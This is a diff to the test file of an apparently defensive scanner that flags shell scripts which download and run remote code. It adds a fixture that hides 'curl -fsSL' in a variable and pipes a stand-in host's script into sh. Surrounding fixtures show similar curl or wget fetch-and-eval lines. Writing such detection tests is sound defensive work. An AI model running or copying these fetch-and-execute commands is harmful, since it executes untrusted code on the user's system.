@@ -180,6 +180,7 @@ describe('shell read as shell (issue 22.2)', () => {
     flow({ 'scripts/d.sh': '#!/bin/bash\nX=$(curl -s https://x.example/p)\n\neval "$X"\n' }, 'code-remote-exec', 4, 2);
     flow({ 'scripts/e.sh': '#!/bin/sh\ncurl -s https://x.example/a \\\n  | $SHELL\n' }, 'code-remote-exec', 3, 2);
     flow({ 'scripts/f.sh': '#!/bin/bash\nbash -c "$(wget -qO- https://x.example/i.sh)"\n' }, 'code-remote-exec', 2);
+    flow({ 'scripts/g.sh': '#!/bin/sh\nC="curl -fsSL"\n$C https://x.example/i | sh\n' }, 'code-remote-exec', 3);
   });
 
   it('a download saved to a file, then that file run', () => {
@@ -228,6 +229,7 @@ describe('shell read as shell (issue 22.2)', () => {
       'scripts/c.sh': '#!/bin/sh\ncurl -s https://api.example.com/v1 | python3 -m json.tool\n',
       'scripts/d.sh': '#!/bin/sh\nbase64 -d logo.b64 > logo.png\ncurl -H "Authorization: Bearer $GITHUB_TOKEN" https://api.github.com/user\n',
       'scripts/e.sh': '#!/bin/sh\nnpx -y prettier --check .\ngit status\n',
+      'scripts/f.sh': '#!/bin/sh\nPY=python3\nCURL="curl -fsSL"\n"$PY" scripts/run.py\n$CURL -o out.json https://api.example.com/v1\n',
     });
   });
 });
